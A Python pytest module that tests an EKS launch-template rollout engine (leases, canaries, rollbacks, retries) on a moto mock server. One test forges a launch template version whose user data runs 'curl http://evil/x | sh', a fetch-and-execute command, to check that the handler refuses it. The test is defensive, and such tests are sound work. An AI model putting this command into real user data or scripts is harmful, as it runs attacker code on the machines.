"""Rollouts that stay safe when production is busy: the real state machine (moto's engine, Distributed Map, direct
DynamoDB integration) with the real dispatch and rollout step handlers, on the moto server.

The invariant every test here ends on, once every execution has ended:
- each node group in scope runs a version carrying the parameter's current value, or is reported (failed, gone,
  skipped, superseded, not started) with its reason, and the alarm was raised for every failure (never for a node
  group that was simply deleted);
- no teammate's change was reverted (a rollback happens only while the node group still runs our version);
- no node group was rolled twice for one change, and every node group that started an update finished it: awaited,
  verified, rolled back if needed, and recorded;
- never two rollouts in one cluster at once (the lease), and the lease is released when a rollout ends.

The world is testkit/rollout.py's (three node groups ng-a, ng-b, ng-c in cluster prod; Preflight and Verify are
scripted stubs; waits are 0 s: ROLLOUT_WAIT_SECONDS=0).
"""

from __future__ import annotations

import base64
import json
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from testkit import moto_eks_updates, moto_lambda_handlers
from testkit.engine_world import ACCOUNT, REGION, FakeContext, World
from testkit.moto_server import MotoServer
from testkit.repo import load_event, load_handler
from testkit.rollout import NODEGROUPS, Stubs, dispatch, finished, history, rollout_world, steps, update_calls

PINNED = {"name": "/eks-proxy/config", "version": 1}


@pytest.fixture
def stubs() -> Stubs:
    return Stubs()


@pytest.fixture
def world(moto_server: MotoServer, stubs: Stubs) -> Iterator[World]:
    with rollout_world(moto_server, stubs) as w:
        yield w


STEP = "eks-proxy-rollout-step"


def dispatch_change(world: World, event_id: str, **env: str) -> dict[str, Any]:
    """The SSM change event as EventBridge delivers it, with its own event id (the change id)."""
    module = load_handler("dispatch", world.env(**env))
    event = load_event("ssm-parameter-update") | {"id": event_id}
    return module.lambda_handler(event, FakeContext())  # type: ignore[no-any-return]


def settled(world: World, execution: dict[str, Any]) -> dict[str, Any]:
    """The `settle` step's result, from the history (a failed execution has no output)."""
    outputs = [
        json.loads(e["lambdaFunctionSucceededEventDetails"]["output"])
        for e in history(world, execution["executionArn"])
        if e["type"] == "LambdaFunctionSucceeded"
    ]
    return next(o for o in reversed(outputs) if isinstance(o, dict) and "counts" in o)


def records(execution: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {r["nodegroup"]: r for r in json.loads(execution["output"])["results"]}


def invocations(action: str, change_id: str | None = None) -> list[int]:
    """Positions in the global invocation order of the rollout step's `action` (of one change, if given)."""
    return [
        i
        for i, (name, event) in enumerate(moto_lambda_handlers.INVOCATIONS)
        if name == STEP and event.get("action") == action and (change_id is None or event.get("change_id") == change_id)
    ]


def verified(nodegroup: str) -> list[int]:
    return [
        i
        for i, (name, event) in enumerate(moto_lambda_handlers.INVOCATIONS)
        if name == "eks-proxy-verify" and event.get("nodegroup") == nodegroup
    ]


def started_update(nodegroup: str) -> list[int]:
    return [
        i
        for i, (name, event) in enumerate(moto_lambda_handlers.INVOCATIONS)
        if name == STEP and event.get("action") == "start_update" and event.get("nodegroup") == nodegroup
    ]


def user_data(world: World, nodegroup: str) -> bytes:
    running = int(world.nodegroup_version("prod", nodegroup) or 0)
    version = next(v for v in world.versions(f"prod-{nodegroup}") if v["VersionNumber"] == running)
    return base64.b64decode(version["LaunchTemplateData"].get("UserData", ""))


def when(reached: Callable[[], bool], then: Callable[[], None], timeout: float = 90) -> threading.Thread:
    """Run `then` in a thread as soon as `reached()` (polled every 20 ms, `timeout` at most)."""

    def run() -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if reached():
                then()
                return
            time.sleep(0.02)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def status_of(world: World, nodegroup: str) -> str:
    eks = world.clients["eks"]
    return str(eks.describe_nodegroup(clusterName="prod", nodegroupName=nodegroup)["nodegroup"]["status"])


# ---------------------------------------------------------------- 1. one rollout per cluster, no change lost


def test_a_change_arriving_mid_rollout_waits_for_the_lease_and_runs_next(world: World, stubs: Stubs) -> None:
    """Change B (10.0.0.20) arrives while change A's canary is being verified. B's execution waits for the cluster's
    lease; A finishes its canary, starts nothing more (B's version exists) and releases; then B rolls everything."""
    started: dict[str, Any] = {}

    def change_b() -> None:
        world.put_proxy("http://10.0.0.20:3128")
        started["b"] = dispatch_change(world, "change-b")
        # A's canary stays "in verification" until B has found the cluster taken (so the overlap is certain).
        deadline = time.monotonic() + 60
        while not invocations("lease_holder", "change-b") and time.monotonic() < deadline:
            time.sleep(0.05)

    stubs.during_verify["ng-a"] = [lambda: started.get("b") or change_b()]
    a = dispatch_change(world, "change-a")
    first = finished(world, a["execution_arn"])
    assert first["status"] == "SUCCEEDED", first.get("cause")
    assert {n: r["outcome"] for n, r in records(first).items()} == {
        "ng-a": "rolled",
        "ng-b": "superseded",
        "ng-c": "superseded",
    }
    assert started["b"]["status"] == "started"
    second = finished(world, started["b"]["execution_arn"])
    assert second["status"] == "SUCCEEDED", second.get("cause")
    assert {r["outcome"] for r in records(second).values()} == {"rolled"}
    # B waited for the lease (its own history), and did nothing before A had settled.
    events = history(world, second["executionArn"])
    assert [e for e in events if (e.get("stateEnteredEventDetails") or {}).get("name") == "WaitForLease"]
    assert max(invocations("settle", "change-a")) < min(invocations("refresh", "change-b"))
    for name in NODEGROUPS:
        assert b"10.0.0.20:3128" in user_data(world, name), name
    # No node group rolled twice for one change: A rolled only the canary, B each node group once.
    assert update_calls("ng-a") == ["2", "3"]
    assert update_calls("ng-b") == ["2"] and update_calls("ng-c") == ["2"]
    assert world.lease("prod") is None
    assert world.alarms() == []


def test_a_lease_left_by_an_execution_that_died_is_taken_over(world: World) -> None:
    """A rollout stopped by hand never released its lease: the next rollout sees its holder is not running and takes
    the lease over instead of waiting until it expires (two days later)."""
    ghost = f"arn:aws:states:{REGION}:{ACCOUNT}:execution:eks-proxy-rollout:stopped-by-hand"
    world.clients["dynamodb"].put_item(
        TableName=world.lease_table,
        Item={
            "cluster": {"S": "prod"},
            "owner": {"S": "stopped-by-hand"},
            "execution_arn": {"S": ghost},
            "expires_at": {"N": str(int(time.time()) + 86400)},
        },
    )
    execution = finished(world, dispatch(world)["execution_arn"])
    assert execution["status"] == "SUCCEEDED", execution.get("cause")
    assert {r["outcome"] for r in records(execution).values()} == {"rolled"}
    taken = [
        e
        for e in history(world, execution["executionArn"])
        if e["type"] == "TaskStateEntered" and e["stateEnteredEventDetails"]["name"] == "TakeOverLease"
    ]
    assert len(taken) == 1
    assert world.lease("prod") is None


def test_a_change_superseded_while_it_waits_for_the_lease_never_starts(world: World) -> None:
    """A rollout waiting for the cluster ends as `superseded` once a newer valid version exists: the newer change's
    own rollout rolls it, and this one must not roll its older value after it."""
    sfn = world.clients["stepfunctions"]
    sleeper = sfn.create_state_machine(
        name="someone-else",
        definition=json.dumps({"StartAt": "Sleep", "States": {"Sleep": {"Type": "Wait", "Seconds": 20, "End": True}}}),
        roleArn=f"arn:aws:iam::{ACCOUNT}:role/x",
    )["stateMachineArn"]
    holder = sfn.start_execution(stateMachineArn=sleeper, name="holder")["executionArn"]
    world.clients["dynamodb"].put_item(
        TableName=world.lease_table,
        Item={
            "cluster": {"S": "prod"},
            "owner": {"S": "holder"},
            "execution_arn": {"S": holder},
            "expires_at": {"N": str(int(time.time()) + 86400)},
        },
    )
    waiting = dispatch(world)
    when(lambda: len(invocations("lease_holder")) >= 2, lambda: world.put_proxy("http://10.0.0.30:3128"))
    execution = finished(world, waiting["execution_arn"])
    assert execution["status"] == "SUCCEEDED", execution.get("cause")
    assert {r["outcome"] for r in records(execution).values()} == {"superseded"}
    assert invocations("refresh") == [] and moto_eks_updates.CALLS == []
    assert world.lease("prod")["owner"] == "holder"  # never taken, so never released by this one


# ---------------------------------------------------------------- 2. the canary gates


def test_a_canary_that_is_gone_hands_the_role_to_the_next_nodegroup(world: World, stubs: Stubs) -> None:
    """ng-a (the chosen canary) is deleted before the rollout reaches it: ng-b becomes the canary, alone, and ng-c
    starts only after ng-b was rolled and verified."""
    stubs.during_preflight.append(
        lambda: world.clients["eks"].delete_nodegroup(clusterName="prod", nodegroupName="ng-a")
    )
    execution = finished(world, dispatch(world)["execution_arn"])
    assert execution["status"] == "SUCCEEDED", execution.get("cause")
    outcome = records(execution)
    assert outcome["ng-a"]["outcome"] == "gone" and "not found" in outcome["ng-a"]["summary"]
    assert outcome["ng-b"]["outcome"] == outcome["ng-c"]["outcome"] == "rolled"
    assert max(verified("ng-b")) < min(started_update("ng-c"))
    assert world.alarms() == []  # a deleted node group is not an alarm


def test_an_up_to_date_canary_is_no_verdict_the_next_one_is_the_canary(world: World) -> None:
    """ng-a already carries the value when the rollout reaches it (a replay, someone rolled it): no verdict from it;
    ng-b is the canary and ng-c waits for it."""
    first = finished(world, dispatch(world)["execution_arn"])  # every node group on version 2
    assert first["status"] == "SUCCEEDED", first.get("cause")
    world.put_proxy("http://10.0.0.20:3128")
    moto_lambda_handlers.INVOCATIONS.clear()
    document = {
        "change_id": "replay",
        "trigger": "sweep",
        "parameter": {"name": "/eks-proxy/config", "version": 2},
        "canary": {"cluster": "prod", "nodegroup": "ng-a"},
        "rest": [{"cluster": "prod", "nodegroup": "ng-b"}, {"cluster": "prod", "nodegroup": "ng-c"}],
    }
    sfn = world.clients["stepfunctions"]
    # ng-a gets the new value out of band (a previous attempt of this change), before this rollout reaches it.
    step = load_handler("rollout_step", world.env())
    target = {"cluster": "prod", "nodegroup": "ng-a", "parameter": document["parameter"], "change_id": "earlier"}
    refreshed = step.lambda_handler({"action": "refresh", **target}, FakeContext())
    update = step.lambda_handler({"action": "start_update", **target, "refresh": refreshed}, FakeContext())
    while update["status"] != "Successful":
        update = step.lambda_handler({"action": "describe_update", **target, "update": update}, FakeContext())
    moto_lambda_handlers.INVOCATIONS.clear()
    arn = sfn.start_execution(stateMachineArn=world.state_machine_arn, name="replay", input=json.dumps(document))[
        "executionArn"
    ]
    execution = finished(world, arn)
    assert execution["status"] == "SUCCEEDED", execution.get("cause")
    outcome = records(execution)
    assert outcome["ng-a"]["outcome"] == "up_to_date"
    assert outcome["ng-b"]["outcome"] == outcome["ng-c"]["outcome"] == "rolled"
    assert max(verified("ng-b")) < min(started_update("ng-c"))


# ---------------------------------------------------------------- 3. a failure never abandons in-flight work


def test_a_failure_lets_in_flight_nodegroups_finish_and_starts_nothing_new(world: World, stubs: Stubs) -> None:
    """Four node groups, two at a time after the canary: ng-b's update fails while ng-c's is still rolling. ng-c is
    awaited, verified and recorded (not stopped mid-update); ng-d, not yet started, never starts; then the alarm."""
    world.template("prod-ng-d")
    world.nodegroup("prod", "ng-d", template="prod-ng-d")
    moto_eks_updates.script("prod", "ng-b", outcome="Failed", polls=1)
    moto_eks_updates.script("prod", "ng-c", polls=12)
    execution = finished(world, dispatch(world)["execution_arn"])
    assert (execution["status"], execution["error"]) == ("FAILED", "RolloutFailed")
    outcome = {r["nodegroup"]: r for r in settled(world, execution)["results"]}
    assert outcome["ng-a"]["outcome"] == "rolled"
    assert outcome["ng-b"]["outcome"] == "failed"
    assert outcome["ng-c"]["outcome"] == "rolled"  # finished, verified
    assert verified("ng-c") and world.nodegroup_version("prod", "ng-c") == "2"
    assert outcome["ng-d"]["outcome"] == "not_started" and update_calls("ng-d") == []
    assert "not started: prod/ng-b failed" in outcome["ng-d"]["summary"]
    [alarm] = world.alarms()
    assert "prod/ng-b failed" in alarm["message"]["summary"]
    assert world.lease("prod") is None


# ---------------------------------------------------------------- 4. guarded, awaited rollback


def test_rollback_never_reverts_a_teammates_update_moved_on(world: World, stubs: Stubs) -> None:
    """ng-a's new nodes fail verification, and meanwhile a teammate starts their own update of ng-a: the rollback
    touches nothing and the node group is reported `moved_on`, in the alarm too."""
    ec2, eks = world.clients["ec2"], world.clients["eks"]

    def teammate() -> None:
        template = world.templates["prod-ng-a"]
        ec2.create_launch_template_version(
            LaunchTemplateId=template, SourceVersion="2", LaunchTemplateData={"InstanceType": "m7i.xlarge"}
        )
        moto_eks_updates.script("prod", "ng-a", polls=50)
        eks.update_nodegroup_version(
            clusterName="prod", nodegroupName="ng-a", launchTemplate={"id": template, "version": "3"}
        )

    stubs.verify_fails.add("ng-a")
    stubs.during_verify["ng-a"] = [teammate]
    execution = finished(world, dispatch(world)["execution_arn"])
    assert execution["status"] == "FAILED"
    assert update_calls("ng-a") == ["2", "3"]  # ours, theirs; no rollback to 1
    [alarm] = world.alarms()
    assert "prod/ng-a failed: verification: failed (not rolled back, moved on" in alarm["message"]["summary"]
    assert invocations("rollback")  # it was considered, and declined


def test_a_rollback_that_fails_is_its_own_outcome(world: World, stubs: Stubs) -> None:
    """The rollback is awaited like an update: when it fails, the node group is `rollback_failed`, said as such in
    the alarm and the metrics, never "rolled back"."""
    stubs.verify_fails.add("ng-a")
    stubs.during_verify["ng-a"] = [lambda: moto_eks_updates.script("prod", "ng-a", outcome="Failed", polls=2)]
    execution = finished(world, dispatch(world)["execution_arn"])
    assert execution["status"] == "FAILED"
    assert update_calls("ng-a") == ["2", "1"]
    assert world.nodegroup_version("prod", "ng-a") == "2"  # the rollback did not land
    [alarm] = world.alarms()
    assert "ROLLBACK FAILED to version 1" in alarm["message"]["summary"]
    assert "rolled back to" not in alarm["message"]["summary"]
    describe_rollback = [e for e in steps("describe_update") if e["nodegroup"] == "ng-a"]
    assert describe_rollback[-1]["update"]["version"] == 1  # the rollback itself was polled until it ended


# ---------------------------------------------------------------- 5. decided from where the node group is going


def test_a_revert_during_the_canary_ends_with_every_nodegroup_on_the_original_value(world: World) -> None:
    """X is everywhere; Y is set and its canary starts rolling; X is set again while the canary's update to Y still
    runs. Dispatch of the revert must not call the UPDATING canary "up to date" (it is leaving X): the revert's
    rollout waits for the lease and the update, then brings the canary back to X. Everything ends on X."""
    first = finished(world, dispatch(world)["execution_arn"])
    assert first["status"] == "SUCCEEDED", first.get("cause")
    world.put_proxy("http://10.0.0.99:3128")  # Y
    moto_eks_updates.script("prod", "ng-a", polls=40)
    revert: dict[str, Any] = {}

    def set_x_again() -> None:
        world.put_proxy("http://10.0.0.10:3128")  # X again: version 3
        revert.update(dispatch_change(world, "revert"))

    helper = when(lambda: status_of(world, "ng-a") == "UPDATING", set_x_again)
    y = finished(world, dispatch_change(world, "to-y")["execution_arn"])
    helper.join(timeout=60)
    assert y["status"] == "SUCCEEDED", y.get("cause")
    assert revert["status"] == "started", revert
    back = finished(world, revert["execution_arn"])
    assert back["status"] == "SUCCEEDED", back.get("cause")
    for name in NODEGROUPS:
        data = user_data(world, name)
        assert b"10.0.0.10:3128" in data and b"10.0.0.99" not in data, name
    assert update_calls("ng-b") == ["2"] and update_calls("ng-c") == ["2"]  # never rolled to Y


# ---------------------------------------------------------------- 6. resources that disappear


def test_a_nodegroup_deleted_during_its_update_is_gone_the_rest_goes_on(world: World) -> None:
    moto_eks_updates.script("prod", "ng-b", polls=30)
    helper = when(
        lambda: status_of(world, "ng-b") == "UPDATING",
        lambda: world.clients["eks"].delete_nodegroup(clusterName="prod", nodegroupName="ng-b"),
    )
    execution = finished(world, dispatch(world, MAX_CONCURRENCY="1")["execution_arn"])
    helper.join(timeout=60)
    assert execution["status"] == "SUCCEEDED", execution.get("cause")
    outcome = records(execution)
    assert outcome["ng-b"]["outcome"] == "gone" and "no longer exists" in outcome["ng-b"]["summary"]
    assert outcome["ng-a"]["outcome"] == outcome["ng-c"]["outcome"] == "rolled"
    assert world.alarms() == []


# ---------------------------------------------------------------- 7. Lambda retries: every step idempotent


@pytest.mark.parametrize("action", ["refresh", "start_update", "describe_update", "record", "plan_wave"])
def test_a_step_whose_lambda_timed_out_after_doing_its_work_is_retried_harmlessly(world: World, action: str) -> None:
    """The Lambda service reports a timeout after the step ran (its effect happened): the state machine retries it,
    and the retry changes nothing more: one version, one update per node group, every node group rolled once."""
    moto_lambda_handlers.fail_after_running(STEP, action, times=2)
    execution = finished(world, dispatch(world)["execution_arn"])
    assert execution["status"] == "SUCCEEDED", execution.get("cause")
    assert [kind for _, e, kind in moto_lambda_handlers.ERRORS] == ["Sandbox.Timedout"] * 2
    assert {r["outcome"] for r in records(execution).values()} == {"rolled"}
    for name in NODEGROUPS:
        assert [v["VersionNumber"] for v in world.versions(f"prod-{name}")] == [1, 2]
        assert update_calls(name) == ["2"], name


# ---------------------------------------------------------------- 9. step input is not trusted


def test_start_update_rolls_only_a_version_eks_proxy_made_from_the_running_one(world: World) -> None:
    """Invoking the step function directly with someone's launch template version (arbitrary user data) is refused."""
    from eks_proxy.engine.steps import InvalidRolloutInput

    ec2 = world.clients["ec2"]
    evil = base64.b64encode(b"#!/bin/bash\ncurl http://evil/x | sh\n").decode()
    ec2.create_launch_template_version(
        LaunchTemplateId=world.templates["prod-ng-a"],
        SourceVersion="1",
        LaunchTemplateData={"UserData": evil},
        VersionDescription="eks-proxy 0123456789abcdef from v1",
    )
    step = load_handler("rollout_step", world.env())
    refresh = {
        "launch_template": {"id": world.templates["prod-ng-a"], "name": None},
        "version_before": 1,
        "version_after": 2,
        "fingerprint": "0123456789abcdef",
    }
    event = {"action": "start_update", "cluster": "prod", "nodegroup": "ng-a", "refresh": refresh, "parameter": PINNED}
    with pytest.raises(InvalidRolloutInput, match="was not made by eks-proxy from the running version 1"):
        step.lambda_handler(event, FakeContext())
    assert moto_eks_updates.CALLS == []


def test_rollback_goes_only_to_the_version_ours_was_made_from(world: World) -> None:
    """A rollback request naming another "version before" (say, an old version with other user data) is refused."""
    from eks_proxy.engine.steps import InvalidRolloutInput

    step = load_handler("rollout_step", world.env())
    target = {"cluster": "prod", "nodegroup": "ng-a", "parameter": PINNED, "change_id": "c1"}
    world.clients["ec2"].create_launch_template_version(
        LaunchTemplateId=world.templates["prod-ng-a"], SourceVersion="1", LaunchTemplateData={}
    )  # version 2: not ours
    refreshed = step.lambda_handler({"action": "refresh", **target}, FakeContext())  # ours: 3, from 1
    assert (refreshed["version_before"], refreshed["version_after"]) == (1, 3)
    update = step.lambda_handler({"action": "start_update", **target, "refresh": refreshed}, FakeContext())
    while update["status"] != "Successful":
        update = step.lambda_handler({"action": "describe_update", **target, "update": update}, FakeContext())
    forged = refreshed | {"version_before": 2}
    with pytest.raises(InvalidRolloutInput, match="was not made by eks-proxy from version 2"):
        step.lambda_handler({"action": "rollback", **target, "refresh": forged}, FakeContext())
    assert update_calls("ng-a") == ["3"]
